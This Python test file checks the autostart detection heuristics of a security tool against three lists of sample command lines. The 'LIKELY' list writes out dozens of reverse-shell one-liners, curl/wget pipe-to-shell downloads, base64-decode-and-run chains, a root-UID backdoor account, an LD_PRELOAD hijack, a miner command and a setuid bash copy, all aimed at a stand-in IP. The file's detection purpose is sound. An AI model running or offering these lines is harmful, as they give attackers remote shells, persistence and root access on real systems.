"""The text patterns of the autostart heuristics: what they must match, and what looks like it and they must not."""

import pytest

from codered.detect.heuristics import HeuristicJudge
from tests.fixtures.autostart_roots import shipped_heuristics

SIGNAL = frozenset(("unowned", "recent"))  # what every new line of an administrator has too
IP = "192.0.2.1"
B64 = "ZWNobyBJTkVSVA=="

LIKELY = [
    f"sh -i >& /dev/tcp/{IP}/9 0>&1",
    f"/bin/bash -l -i > /dev/tcp/{IP}/9 0<&1 2>&1",
    f"exec 5<>/dev/tcp/{IP}/9; cat <&5 | while read l; do $l 2>&5 >&5; done; sh -i <&5 >&5 2>&5 /dev/tcp/{IP}/9 0>&1",
    f"0<&196;exec 196<>/dev/tcp/{IP}/9; sh <&196 >/dev/tcp/{IP}/9 2>&1",
    f"nc -e /bin/sh {IP} 9",
    f"ncat {IP} 9 --exec /bin/bash",
    f"nc.traditional {IP} 9 -c bash",
    f"nc {IP} 9 -e '/bin/bash'",
    f"busybox nc {IP} 9 -e sh",
    f"socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:{IP}:9",
    f"socat TCP:{IP}:9 EXEC:/bin/sh",
    f"rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc {IP} 9 >/tmp/f",
    f"mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect {IP}:9 > /tmp/s",
    f"telnet {IP} 8 | /bin/sh | telnet {IP} 9",
    f"python3 -c 'import socket,os,pty;s=socket.socket()\ns.connect((\"{IP}\",9));os.dup2(3,0);pty.spawn(\"sh\")'",
    f"perl -e 'use Socket;$i=\"{IP}\";socket(S,2,1,6);connect(S,1);open(STDIN,\">&S\");exec(\"/bin/sh -i\");'",
    f"perl -MIO -e '$c=new IO::Socket::INET(PeerAddr,\"{IP}:9\");STDIN->fdopen($c,r);system$_ while<>;'",
    f"php -r '$s=fsockopen(\"{IP}\",9);exec(\"/bin/sh -i <&3 >&3 2>&3\");'",
    f"ruby -rsocket -e 'f=TCPSocket.open(\"{IP}\",9).to_i;exec sprintf(\"/bin/sh -i <&%d\",f)'",
    f"awk 'BEGIN {{s=\"/inet/tcp/0/{IP}/9\"; while(1) {{ s |& getline c; }}}}'",
    f"lua -e 'local t=require(\"socket\").tcp(); socket.tcp(); io.popen(c)' {IP}",
    f"curl -fsSL http://{IP}/x.sh | bash",
    f"curl http://{IP}/x.sh|sh",
    f"(curl -s http://{IP}/x || wget -q -O- http://{IP}/x) | bash",
    f"wget -q -O - http://{IP}/x | sudo sh -s -- -a",
    f"wget -O- 'http://{IP}/x?a=1&b=2' 2>/dev/null | tee /dev/null | /bin/dash",
    f"curl -s http://{IP}/x | python3 -",
    f"curl -s http://{IP}/x | perl",
    f"bash -c \"$(curl -fsSL http://{IP}/x)\"",
    f"bash <(wget -qO- http://{IP}/x)",
    f"eval `curl http://{IP}/x`",
    f"source <(curl -s http://{IP}/x)",
    f"wget http://{IP}/x -O /tmp/x; chmod +x /tmp/x; /tmp/x",
    f"cd /var/tmp; curl -O http://{IP}/x > /var/tmp/x && chmod 777 x && ./x",
    f"curl http://{IP}/x -o /tmp/x && sh /tmp/x",
    f"echo {B64} | base64 -d | sh",
    f"echo {B64} | base64 --decode | gunzip | /bin/bash",
    f"bash -c \"$(echo {B64} | base64 -d)\"",
    f"python3 -c \"exec(__import__('base64').b64decode('{B64}'))\"",
    f"perl -e 'use MIME::Base64;eval(decode_base64(\"{B64}\"))'",
    "useradd -o -u 0 -g 0 inert",
    "echo '/tmp/x.so' > /etc/ld.so.preload",
    "LD_PRELOAD=/dev/shm/.x.so /usr/sbin/sshd",
    f"/usr/bin/x -o stratum+tcp://{IP}:3333 -u inert",
    "cp /bin/bash /var/x && chmod 4755 /var/x",
]  # fmt: skip

SUSPICIOUS = [
    "nohup /tmp/x >/dev/null 2>&1 &",
    "setsid /root/.x/y &",
    "nohup /.x/y &",
    "setsid sh -c '/tmp/x > /dev/null' &",
    "nohup $HOME/.x/y > /dev/null &",
    "setsid sh -c 'true > /dev/null; /dev/shm/x' &",
    "echo ssh-ed25519 AAAA inert >> /root/.ssh/authorized_keys",
    "(crontab -l; echo x) | crontab -",
    "chattr +i /etc/x",
    f"curl -s http://{IP}/x -o /usr/local/bin/x && chmod +x /usr/local/bin/x",
]

NOTHING = [
    "curl -s http://localhost/health | python3 -m json.tool",
    "curl -s https://example.org/x.json | python3 -c 'import json,sys; print(json.load(sys.stdin))'",
    "curl -fsS https://example.org/ping > /dev/null || logger -t x down; sh /opt/x.sh",
    "IP=$(curl -s https://example.org/ip); /usr/bin/ddns $IP",
    "sh -c 'test $(curl -s -o /dev/null -w %{http_code} http://localhost/) = 200 || reboot'",
    "wget -q https://example.org/list -O /var/lib/list",
    "timeout 1 bash -c '</dev/tcp/127.0.0.1/80'",
    "nc -z localhost 22 && echo up",
    "echo x | nc -w1 logs.example.org 514",
    "socat -u FILE:/var/log/x TCP:logs.example.org:514",
    "mkfifo /run/x; cat /run/x > /var/log/x",
    "base64 -d /etc/x.b64 > /etc/x",
    "openssl s_client -connect example.org:443 </dev/null | openssl x509 -noout -enddate",
    "nohup /usr/local/bin/server >> /var/log/server.log 2>&1 &",
    "nohup /usr/local/bin/server > /tmp/server.log 2>&1 &",
    "setsid /usr/local/bin/server >>/var/tmp/server.log &",
    "nohup /opt/x >/root/.x.log 2>/tmp/x.err &",
    "alias sudo='sudo '",
    "eval \"$(ssh-agent -s)\"",
    "export LD_LIBRARY_PATH=/opt/x/lib",
    "chmod +x /usr/local/bin/x",
    "find /tmp -name '*.sh' -mtime +7 -delete",
    "python3 -c 'import socket; print(socket.gethostname())'",
    "source <(kubectl completion bash)",
    "crontab -l > /var/backups/crontab",
    "history -c",
]  # fmt: skip


@pytest.fixture(scope="module")
def judge() -> HeuristicJudge:
    return HeuristicJudge(shipped_heuristics())


@pytest.mark.parametrize("text", LIKELY)
def test_alone_it_is_likely(judge: HeuristicJudge, text: str) -> None:
    found = judge.judge("autostart", "cron", judge.read(text.encode()).facts)
    assert found is not None
    assert found.confidence == "likely", found.because


@pytest.mark.parametrize("text", SUSPICIOUS)
def test_new_and_of_no_package_it_is_at_least_suspicious(judge: HeuristicJudge, text: str) -> None:
    assert judge.judge("autostart", "cron", judge.read(text.encode()).facts | SIGNAL) is not None


@pytest.mark.parametrize("text", NOTHING)
@pytest.mark.parametrize("kind", ["cron", "systemd", "profile", "udev"])
def test_even_new_and_of_no_package_it_is_nothing(judge: HeuristicJudge, text: str, kind: str) -> None:
    found = judge.judge("autostart", kind, judge.read(text.encode()).facts | SIGNAL)
    assert found is None, found.because


def test_signals_alone_never_make_a_finding(judge: HeuristicJudge) -> None:
    for kind in ("cron", "systemd", "init", "udev", "profile", "suid", "sudoers", "pam"):
        for third in ("command-missing", "does-not-parse", "owner-not-root", "conffile-changed", "command-unowned"):
            assert judge.judge("autostart", kind, SIGNAL | {third}) is None


def test_every_rule_has_a_reason_of_its_own() -> None:
    rules = [rule for rule in shipped_heuristics().heuristics.rules if rule.id.startswith("autostart-")]
    assert len(rules) > 40
    assert len({rule.because for rule in rules}) == len(rules)
    assert not any(rule.because.endswith(".") for rule in rules)
